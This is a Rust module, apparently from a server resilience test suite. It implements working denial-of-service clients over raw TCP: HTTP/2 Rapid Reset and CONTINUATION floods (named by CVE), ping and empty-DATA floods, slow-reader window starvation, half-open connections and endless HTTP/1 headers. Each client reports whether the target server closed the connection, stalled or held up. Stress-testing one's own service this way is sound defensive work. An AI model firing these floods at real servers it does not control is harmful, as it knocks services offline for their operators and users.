//! Clients that keep to the letter of HTTP (RFC 9112, 9113) where that hurts, byte by byte over
//! TCP. Each goes on until the server ends its connection, or so much was sent, or nothing is taken
//! any more.

mod frames;

use std::{
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

use self::frames::{Connection, END_HEADERS, END_STREAM, call_headers, frame, message, window};

/// How much a client sends that nobody stops.
const FRAMES: u32 = 200_000;
/// How long the server is waited for.
const PATIENCE: Duration = Duration::from_secs(20);

/// What a client does.
#[derive(Clone, Copy, Debug)]
pub enum Attack {
    /// Calls that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316).
    ContinuationFlood,
    /// Data without content, on a stream of heartbeats.
    EmptyData,
    /// Pings, whose answers are not taken.
    PingFlood,
    /// Streams of usage of which nothing is taken.
    SlowReader,
    /// Connections that never speak, or not to the end.
    HalfOpen,
    /// Heads of HTTP/1 that are large and do not end.
    EndlessHeads,
}

/// How it came out.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Outcome {
    /// The server ended the connection, or all of them.
    Closed,
    /// The server took no more of it.
    Stuck,
    /// All was sent, or asked for, and the connection was still there.
    Bore,
}

impl Attack {
    /// Runs once, in the name of `tenant`. What the server does not end stays until `hold` returns.
    pub fn run(self, address: SocketAddr, tenant: &str, hold: &dyn Fn()) -> io::Result<Outcome> {
        match self {
            Self::RapidReset => rapid_reset(address, tenant, hold),
            Self::ContinuationFlood => continuation_flood(address, hold),
            Self::EmptyData => empty_data(address, tenant, hold),
            Self::PingFlood => ping_flood(address, hold),
            Self::SlowReader => slow_reader(address, tenant, hold),
            Self::HalfOpen => half_open(address),
            Self::EndlessHeads => endless_heads(address),
        }
    }
}

fn rapid_reset(address: SocketAddr, tenant: &str, hold: &dyn Fn()) -> io::Result<Outcome> {
    let mut connection = Connection::open(address, 65_535)?;
    let headers = call_headers("/dwell.v1.SessionService/GetSession", tenant);
    for number in 0..FRAMES {
        let stream = 2 * number + 1;
        let mut bytes = frame(frames::HEADERS, END_HEADERS, stream, &headers);
        bytes.extend(frame(frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        if let Some(outcome) = connection.send(&bytes) {
            return Ok(outcome);
        }
    }
    Ok(connection.outcome(hold))
}

fn continuation_flood(address: SocketAddr, hold: &dyn Fn()) -> io::Result<Outcome> {
    let mut connection = Connection::open(address, 65_535)?;
    // A header of no end: a literal with a name and a value, again and again.
    let header = frames::literal("x-more", &"x".repeat(100));
    let first = frame(frames::HEADERS, 0, 1, &header);
    if let Some(outcome) = connection.send(&first) {
        return Ok(outcome);
    }
    let more = frame(frames::CONTINUATION, 0, 1, &header);
    for _ in 0..FRAMES {
        if let Some(outcome) = connection.send(&more) {
            return Ok(outcome);
        }
    }
    Ok(connection.outcome(hold))
}

fn empty_data(address: SocketAddr, tenant: &str, hold: &dyn Fn()) -> io::Result<Outcome> {
    let mut connection = Connection::open(address, 65_535)?;
    let headers = call_headers("/dwell.v1.SessionService/StreamHeartbeats", tenant);
    let begin = frame(frames::HEADERS, END_HEADERS, 1, &headers);
    if let Some(outcome) = connection.send(&begin) {
        return Ok(outcome);
    }
    let nothing = frame(frames::DATA, 0, 1, &[]);
    for _ in 0..FRAMES {
        if let Some(outcome) = connection.send(&nothing) {
            return Ok(outcome);
        }
    }
    Ok(connection.outcome(hold))
}

fn ping_flood(address: SocketAddr, hold: &dyn Fn()) -> io::Result<Outcome> {
    let mut connection = Connection::open(address, 65_535)?;
    connection.stop_reading();
    let ping = frame(frames::PING, 0, 0, &[7; 8]);
    let many = ping.repeat(100);
    // Answers to all of them fill what the kernel keeps, many times over.
    for _ in 0..FRAMES / 10 {
        if let Some(outcome) = connection.send(&many) {
            return Ok(outcome);
        }
    }
    Ok(connection.outcome(hold))
}

fn slow_reader(address: SocketAddr, tenant: &str, hold: &dyn Fn()) -> io::Result<Outcome> {
    // Room for one byte of each stream.
    let mut connection = Connection::open(address, 1)?;
    let headers = call_headers("/dwell.v1.UsageStatsService/StreamUsageStats", tenant);
    // start_date = 1, end_date = 2.
    let request = message(&[(1, "2000-01-01"), (2, "2100-01-01")]);
    for number in 0..900 {
        let stream = 2 * number + 1;
        let mut bytes = frame(frames::HEADERS, END_HEADERS, stream, &headers);
        bytes.extend(frame(frames::DATA, END_STREAM, stream, &request));
        bytes.extend(window(0, u32::try_from(request.len()).unwrap_or(u32::MAX)));
        if let Some(outcome) = connection.send(&bytes) {
            return Ok(outcome);
        }
    }
    Ok(connection.outcome(hold))
}

fn half_open(address: SocketAddr) -> io::Result<Outcome> {
    unfinished(address, |number| {
        // More and more of what a client begins with, but never all of it.
        let (begin, _) = frames::PREFACE.split_at(number % frames::PREFACE.len());
        begin.to_vec()
    })
}

fn endless_heads(address: SocketAddr) -> io::Result<Outcome> {
    unfinished(address, |_| {
        let header = format!("x-more: {}\r\n", "x".repeat(1_000));
        let begin = "GET /v1/settings HTTP/1.1\r\nhost: localhost\r\n";
        [begin, &header.repeat(30)].concat().into_bytes()
    })
}

/// Connections that say so much and no more.
fn unfinished(address: SocketAddr, begin: impl Fn(usize) -> Vec<u8>) -> io::Result<Outcome> {
    let mut silent = Vec::new();
    for number in 0..400 {
        let mut stream = TcpStream::connect(address)?;
        stream.write_all(&begin(number))?;
        stream.set_read_timeout(Some(PATIENCE))?;
        silent.push(stream);
    }
    for mut stream in silent {
        loop {
            match stream.read(&mut [0; 1_024]) {
                Ok(0) => break,
                Ok(_) => {}
                Err(error) if frames::is_timeout(&error) => return Ok(Outcome::Bore),
                Err(_) => break,
            }
        }
    }
    Ok(Outcome::Closed)
}
